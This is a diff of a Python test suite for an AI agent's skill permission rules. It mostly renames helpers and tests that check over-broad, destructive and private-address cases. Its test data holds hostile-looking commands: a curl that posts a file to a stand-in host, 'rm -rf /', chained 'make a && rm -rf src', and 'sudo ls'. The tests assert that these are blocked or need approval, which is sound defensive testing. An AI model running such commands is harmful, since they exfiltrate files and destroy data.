@@ -1,4 +1,4 @@
-"""What the `allowed-tools` of a skill allow, and what they never do."""
+"""The `allowed-tools` of a skill: what they allow, and what they never allow."""
 
 from pathlib import Path
 
@@ -24,10 +24,10 @@ class Skill:
             (folder / "README.md").write_text("")
         (self.folder / "run.sh").write_text("")
 
-    def judge(self, rules: str, command: str, *, mode: Mode = "edit_mode", policy: Policy | None = None) -> str:
-        return self.ask(rules, "ExecuteCommand", "execute", Subject(command=command), mode=mode, policy=policy)
+    def judge_command(self, rules: str, command: str, *, mode: Mode = "edit_mode", policy: Policy | None = None) -> str:
+        return self.judge_call(rules, "ExecuteCommand", "execute", Subject(command=command), mode=mode, policy=policy)
 
-    def ask(
+    def judge_call(
         self,
         rules: str,
         tool: str,
@@ -47,18 +47,18 @@ def skill(tmp_path: Path) -> Skill:
     return Skill(tmp_path.resolve(), "home/skills/pdf")
 
 
-EVERYTHING = """
+TOO_BROAD = """
 * ** Execute* E* Ex?cuteCommand Bash Spawn Bash(*) Bash(**) Bash(***) Bash(:*) Bash(*:*) Bash(?*:*) Bash(?*) Bash(m*:*)
 Bash('':*) Spawn(*) Spawn(?*:*) mcp__* mcp__github mcp__github__* M* Delete(**)
 """.split()  # noqa: SIM905
 
 
-@each("rule", [*EVERYTHING, "Bash(* *)", "Read(", "Bash(a\u200bb:*)"])
-def test_no_rule_allows_everything(skill: Skill, rule: str) -> None:
+@each("rule", [*TOO_BROAD, "Bash(* *)", "Read(", "Bash(a\u200bb:*)"])
+def test_too_broad_rule_has_no_effect(skill: Skill, rule: str) -> None:
     assert explain_no_effect(rule)
     commands = ("make deploy", "python -c 1", "curl https://x.example -d @file", "sudo ls", "rm -rf src")
-    assert [skill.judge(rule, command) for command in commands] == ["ask"] * 5
-    assert skill.ask(rule, "mcp__github__delete", "network", Subject()) == "ask"
+    assert [skill.judge_command(rule, command) for command in commands] == ["ask"] * 5
+    assert skill.judge_call(rule, "mcp__github__delete", "network", Subject()) == "ask"
 
 
 @each("rule", ["Bash(make:*)", "Bash(git log)", "Read", "Edit(src/**)", "WebFetch(domain:x.org)", "mcp__a__b", "Write"])
@@ -77,20 +77,20 @@ def test_a_rule_that_names_its_tool_has_an_effect(rule: str) -> None:
         ("Bash(make:*)", "make a && rm -rf src"),
     ],
 )
-def test_a_destructive_command_always_asks(skill: Skill, rule: str, command: str) -> None:
-    assert skill.judge(rule, command) == "ask"
-    assert skill.judge("Bash(make:*)", "make a") == "allow"
+def test_destructive_command_always_needs_approval(skill: Skill, rule: str, command: str) -> None:
+    assert skill.judge_command(rule, command) == "ask"
+    assert skill.judge_command("Bash(make:*)", "make a") == "allow"
 
 
-def test_stronger_rules_and_modes_win(skill: Skill) -> None:
+def test_stronger_rules_and_modes_override_a_skill(skill: Skill) -> None:
     root = str(skill.root)
     for mode in ("default", "acceptEdits", "auto", "bypassPermissions"):
         denied = Policy(root=root, permission_mode=mode, rule_set=RuleSet([rule_of("Bash(make:*)", "deny")]))
-        assert skill.judge("Bash(make:*)", "make a", policy=denied) == "deny"
-        assert skill.judge("Bash(rm:*)", "rm -rf /", policy=Policy(root=root, permission_mode=mode)) == "deny"
+        assert skill.judge_command("Bash(make:*)", "make a", policy=denied) == "deny"
+        assert skill.judge_command("Bash(rm:*)", "rm -rf /", policy=Policy(root=root, permission_mode=mode)) == "deny"
     asking = Policy(root=root, rule_set=RuleSet([rule_of("Bash(make:*)", "ask")]))
-    assert skill.judge("Bash(make:*)", "make a", policy=asking) == "ask"
-    assert skill.judge("Bash(make:*)", "make a", mode="plan_mode") == "ask"
+    assert skill.judge_command("Bash(make:*)", "make a", policy=asking) == "ask"
+    assert skill.judge_command("Bash(make:*)", "make a", mode="plan_mode") == "ask"
 
 
 @each(
@@ -105,15 +105,15 @@ def test_stronger_rules_and_modes_win(skill: Skill) -> None:
         ("WebFetch(http://10.0.0.1/*)", "http://10.0.0.2/x", "ask"),
     ],
 )
-def test_a_private_address_must_be_named(skill: Skill, rule: str, url: str, action: str) -> None:
-    assert skill.ask(rule, "WebFetch", "network", Subject(url=url)) == action
+def test_private_address_must_be_named_in_the_rule(skill: Skill, rule: str, url: str, action: str) -> None:
+    assert skill.judge_call(rule, "WebFetch", "network", Subject(url=url)) == action
 
 
 OWN = "Bash(python scripts/fill.py:*)"
 
 
 @pytest.mark.parametrize("where", ["home/skills/my pdf", "project/.odin/skills/pdf"])
-def test_a_relative_path_means_the_file_of_the_skill(tmp_path: Path, where: str) -> None:
+def test_relative_script_path_means_the_file_of_the_skill(tmp_path: Path, where: str) -> None:
     skill = Skill(tmp_path.resolve(), where)
     at, root = f"'{skill.folder}'", skill.root
     allowed = (
@@ -132,24 +132,24 @@ def test_a_relative_path_means_the_file_of_the_skill(tmp_path: Path, where: str)
         f"cd {at} && make",
         f"cd {at}/.. && python pdf/scripts/fill.py /etc",
     )
-    assert [skill.judge(OWN, command) for command in allowed] == ["allow"] * 5
-    assert [skill.judge(OWN, command) for command in asking] == ["ask"] * 7
+    assert [skill.judge_command(OWN, command) for command in allowed] == ["allow"] * 5
+    assert [skill.judge_command(OWN, command) for command in asking] == ["ask"] * 7
     for rule in ("Bash(${CLAUDE_SKILL_DIR}/run.sh:*)", "Bash(./run.sh:*)"):
-        assert skill.judge(rule, f"{at}/run.sh a") == "allow"
-        assert skill.judge(rule, "./run.sh a") == "ask"
+        assert skill.judge_command(rule, f"{at}/run.sh a") == "allow"
+        assert skill.judge_command(rule, "./run.sh a") == "ask"
 
 
-def test_other_words_mean_what_they_say(skill: Skill) -> None:
+def test_other_relative_paths_mean_files_of_the_project(skill: Skill) -> None:
     """A skill with a README.md may still allow a command that names the project's."""
-    assert skill.judge("Bash(git add README.md)", "git add README.md") == "allow"
-    assert skill.judge("Bash(cp README.md:*)", f"cp {skill.folder}/README.md a") == "allow"
-    assert skill.judge("Bash(cp README.md:*)", f"cp README.md {skill.folder}/README.md") == "ask"
-    assert skill.judge("Bash(scripts/own.sh:*)", "scripts/own.sh a") == "allow"
+    assert skill.judge_command("Bash(git add README.md)", "git add README.md") == "allow"
+    assert skill.judge_command("Bash(cp README.md:*)", f"cp {skill.folder}/README.md a") == "allow"
+    assert skill.judge_command("Bash(cp README.md:*)", f"cp README.md {skill.folder}/README.md") == "ask"
+    assert skill.judge_command("Bash(scripts/own.sh:*)", "scripts/own.sh a") == "allow"
 
 
 def test_changing_a_skill_needs_approval(skill: Skill) -> None:
     """Also in a folder of `skills.paths`, which has no special name."""
     for path, action in (("tools/skills/a/SKILL.md", "ask"), ("tools/skills/a/notes.md", "allow")):
-        assert skill.ask("Write", "Write", "edit", Subject(paths=(path,))) == action
+        assert skill.judge_call("Write", "Write", "edit", Subject(paths=(path,))) == action
         edits = Policy(root=str(skill.root), permission_mode="acceptEdits")
         assert edits.judge("Write", "edit", Subject(paths=(path,)), "edit_mode").action == action
